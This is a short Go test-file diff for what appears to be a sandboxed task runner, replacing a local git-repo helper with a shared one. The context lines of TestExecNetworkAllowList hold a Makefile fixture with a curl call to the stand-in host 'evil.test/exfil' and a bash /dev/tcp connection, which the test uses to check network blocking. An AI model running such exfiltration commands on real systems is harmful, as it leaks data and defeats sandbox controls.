@@ -16,6 +16,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/seed43ef5acb/runner/internal/gittest"
 	"github.com/seed43ef5acb/runner/llm/llmtest"
 	"github.com/seed43ef5acb/runner/runner/event"
 	"github.com/seed43ef5acb/runner/tools/sandbox"
@@ -55,7 +56,7 @@ func TestExecNetworkAllowList(t *testing.T) {
 	-curl -sS -m 10 https://evil.test/exfil >> denied.txt 2>&1
 	-bash -c 'exec 3<>/dev/tcp/%[2]s && echo mark >&3'; echo "direct: $$?" > direct.txt
 `, port, strings.Replace(sink.ln.Addr().String(), ":", "/", 1))
-			repo := gitRepo(t, map[string]string{"Makefile": makefile})
+			repo := gittest.Repo(t, map[string]string{"Makefile": makefile})
 			out := t.TempDir()
 			spec := filepath.Join(t.TempDir(), "task.yaml")
 			mustWrite(t, spec, gateSpec+fmt.Sprintf("sandbox: {network: {allow: [\"registry.test:%s\"]}}\n", port))
